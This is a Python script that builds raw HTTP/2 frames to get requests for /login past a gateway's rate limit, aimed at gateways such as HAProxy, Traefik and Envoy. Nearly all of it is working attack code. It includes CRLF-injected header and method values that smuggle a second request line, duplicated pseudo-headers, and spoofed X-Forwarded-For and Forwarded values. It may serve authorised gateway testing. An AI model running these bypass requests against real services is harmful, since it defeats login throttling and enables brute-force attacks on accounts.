"""What a client writes in HTTP/2 to get past the limit of a recipe for /login, to gateways that take HTTP/2 on the port that
the recipe prints, as HAProxy, Traefik and Envoy do. The check is that of dodges.py.

    python3 dodges_h2.py FRONT ORIGIN

Fields are sent as they are, in upper case, with line ends or twice, which no library of HTTP/2 would do.
"""
import itertools, socket, struct, sys

import dodges

DATA, HEADERS, RESET, SETTINGS, GOAWAY, CONTINUATION = 0, 1, 3, 4, 7, 9
END_STREAM = ACK = 1
END_HEADERS = 4
PIECE = 16000  # a frame may have 16384 bytes


def frame(kind, flags, stream, body=b""):
    return struct.pack(">I", len(body))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + body


def literal(text):
    """Returns a text for HPACK, neither compressed nor remembered."""
    if len(text) < 127:
        return bytes([len(text)]) + text
    length, rest = b"\x7f", len(text) - 127
    while rest >= 128:
        length, rest = length + bytes([rest % 128 + 128]), rest // 128
    return length + bytes([rest]) + text


class Request:
    """A request of HTTP/2: pairs of name and value, pseudo fields included."""

    def __init__(self, name, target=b"/login", *fields, method=b"GET", scheme=b"http", authority=b"shop.example", body=None):
        pseudo = [(b":method", method), (b":scheme", scheme), (b":authority", authority), (b":path", target)]
        self.name, self.fields, self.body = name, [p for p in pseudo if p[1] is not None] + list(fields), body

    def frames(self, number):
        """Returns the request on stream 1, with the number for `{n}`."""
        block = b"".join(b"\0" + literal(text.replace(b"{n}", number)) + literal(value.replace(b"{n}", number))
                         for text, value in self.fields)
        pieces = [block[i:i + PIECE] for i in range(0, len(block), PIECE)]
        end = END_STREAM if self.body is None else 0
        frames = [frame(CONTINUATION if i else HEADERS, (0 if i else end) | (END_HEADERS if i == len(pieces) - 1 else 0), 1, piece)
                  for i, piece in enumerate(pieces)]
        return b"".join(frames) + (b"" if self.body is None else frame(DATA, END_STREAM, 1, self.body))


class Front(dodges.Front):
    """A gateway that is asked in HTTP/2. The status is 200 for an answer, 0 for none: what has arrived counts."""

    def ask(self, client, dodge):
        frames = dodge.frames(b"%d" % next(self.serial))
        return self.send(client, b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(SETTINGS, 0, 0) + frames, False)

    @staticmethod
    def status(s):
        got = b""
        while True:
            more = dodges.receive(s)
            if not more:
                return 0
            got += more
            while len(got) >= 9 and len(got) >= 9 + int.from_bytes(got[:3], "big"):
                end = 9 + int.from_bytes(got[:3], "big")
                kind, flags, got = got[3], got[4], got[end:]
                if kind in (RESET, GOAWAY):
                    return 0
                if kind == SETTINGS and not flags & ACK:
                    s.sendall(frame(SETTINGS, ACK, 0))
                if kind in (HEADERS, DATA) and flags & END_STREAM:
                    return 200


def requests():
    """Yields /login in HTTP/2."""
    yield Request("plain")
    for dodge in dodges.paths():
        yield Request(dodge.name, dodge.target)
    for path in (b"", b"*", b"login", b"?/login", b" /login", b"/login HTTP/1.1\r\nx: y", b"/login\r\nx-forwarded-for: 192.0.2.1",
                 b"/free /login", b"#/login", None):
        yield Request("path %r" % path, path)
    for scheme in (b"https", b"ftp", b"", b"HTTP", b"a+b", b"http:", b"\xff", b"http://free.example/free?", None):
        yield Request("scheme %r" % scheme, scheme=scheme)
    for host in (b"?", b"#", b"", b"shop.example?", b"shop.example/free?", b"/free?", b"free.example/free#", b"u@shop.example",
                 b"shop.example:x", b"free.example", b"a b", b"shop.example,free", b"\xff", b"h" * 8000, None):
        yield Request("authority %r" % (host and host[:20]), authority=host)
        yield Request("authority %r beside a host" % (host and host[:20]), b"/login", (b"host", b"shop.example"), authority=host)
        yield Request("host %r" % (host and host[:20]), b"/login", (b"host", host or b""))
    for name in (b":path", b":authority", b":method", b":scheme", b":status"):
        yield Request("%r again" % name, b"/login", (name, dodges.FREE))
    for method in (b"POST", b"HEAD", b"OPTIONS", b"TRACE", b"CONNECT", b"PRI", b"get", b"G ET", b"GET /free HTTP/1.1\r\n", None):
        yield Request("method %r" % method, method=method)
    for name in (b"x-forwarded-for", b"X-Forwarded-For", b"x_forwarded_for", b"x-real-ip", b"forwarded", b"x-original-uri",
                 b"x-original-url", b"x-forwarded-uri", b"x-forwarded-host", b"x-original-method"):
        for value in (b"192.0.2.{n}", dodges.FREE, b"", b"\xff", b"free.example", b"for=192.0.2.{n}"):
            yield Request("%r: %r" % (name, value), b"/login", (name, value))
    for name, value in ((b"transfer-encoding", b"chunked"), (b"connection", b"x-forwarded-for, x-user-id"), (b"te", b"trailers"),
                        (b"x-a", b"b\r\nx-forwarded-for: 192.0.2.1"), (b"x-a: b\r\nx-forwarded-for", b"192.0.2.1"), (b"", b"a"),
                        (b"upgrade", b"websocket"), (b":protocol", b"websocket")):
        yield Request("%r: %r" % (name, value), b"/login", (name, value))
    yield Request("extended CONNECT", b"/login", (b":protocol", b"websocket"), method=b"CONNECT")
    yield Request("body", method=b"POST", body=b"a=b")
    yield Request("body that is longer than said", b"/login", (b"content-length", b"0"), method=b"POST", body=b"a=b")
    yield Request("many cookies", b"/login", *((b"cookie", b"a%d=b" % i) for i in range(400)))


def attack(checks):
    """Sends each request; `checks` is a dodges.Attack. One that is refused at once is not sent again: that may take a second."""
    arrived = checks.front.origin.arrived
    for request in requests():
        before = len(arrived)
        status = checks.front.ask(checks.front.client(), request)
        if status or len(arrived) > before:
            checks.past_the_login_limit(request, Request("plain"))
    checks.note("plain", not checks.tried, "nothing has arrived")
    checks.done()


def other_clients(address, origin):
    """Returns a Front whose clients are not those of dodges.py."""
    front = Front(address, origin)
    front.clients = itertools.count(200000)
    return front


if __name__ == "__main__":
    attack(dodges.Attack(other_clients(dodges.address_of(sys.argv[1]), dodges.Origin(*dodges.address_of(sys.argv[2])))))
